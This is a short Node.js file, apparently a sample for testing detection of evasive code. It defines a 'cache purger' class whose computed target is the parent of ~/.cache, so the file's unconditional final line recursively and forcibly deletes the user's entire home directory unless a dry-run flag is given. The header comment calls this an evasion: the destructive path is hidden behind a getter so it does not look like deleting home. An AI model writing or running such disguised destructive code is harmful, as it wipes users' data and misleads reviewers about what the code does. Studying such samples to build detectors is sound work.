// Evasion: a cache purger class keeps its options' cache directory as
// this.base; a getter computes the "target" as the directory above it, and
// purge() removes this.target recursively: ~/.cache/.. is the home.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

class Purger {
  constructor(opts) {
    this.base = opts.cacheDir;
    this.dryRun = Boolean(opts.dryRun);
  }

  get target() {
    return path.resolve(this.base, '..');
  }

  purge() {
    if (this.dryRun) {
      console.log(`would remove ${this.target}`);
      return;
    }
    fs.rmSync(this.target, { recursive: true, force: true });
  }
}

new Purger({ cacheDir: path.join(os.homedir(), '.cache'), dryRun: process.argv.includes('-n') }).purge();
